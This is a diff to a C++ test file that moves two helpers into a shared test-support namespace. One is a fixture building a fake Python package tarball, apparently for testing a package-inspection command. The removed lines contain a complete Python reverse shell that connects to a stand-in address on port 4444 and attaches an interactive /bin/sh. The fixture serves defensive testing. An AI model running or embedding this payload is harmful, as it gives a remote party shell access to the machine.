@@ -12,19 +12,9 @@ namespace {
 
 using nlohmann::json;
 using test_support::Finished;
+using test_support::kShell;
 using test_support::TemporaryFolder;
-
-constexpr std::string_view kShell =
-    "import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\n"
-    "for d in (0, 1, 2):\n    os.dup2(s.fileno(), d)\nsubprocess.call(['/bin/sh', '-i'])\n";
-
-Bytes version_of(const std::string& name, const std::string& version, const std::string& text) {
-  testing::TarBuilder tar;
-  const std::string root = name + "-" + version + "/";
-  tar.add(root + "PKG-INFO", "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n");
-  tar.add(root + name + "/__init__.py", text);
-  return testing::gzipped(tar.finished());
-}
+using test_support::version_of;
 
 class StudyCommand : public ::testing::Test {
  protected:
